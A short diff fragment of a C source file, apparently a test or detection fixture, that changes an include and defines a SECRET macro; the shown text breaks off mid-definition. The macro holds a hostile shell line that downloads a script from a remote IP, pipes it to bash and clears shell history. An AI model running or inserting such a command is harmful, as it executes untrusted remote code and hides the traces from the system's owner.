@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 /* What must be found: one payload a row, alone in its command line. */
-#include "payload.h"
+#include "encoded.h"
 
 #define SECRET                                                                 \
 	"curl -fsSL http://198.51.100.7/x.sh | bash; history -c; echo done "   \
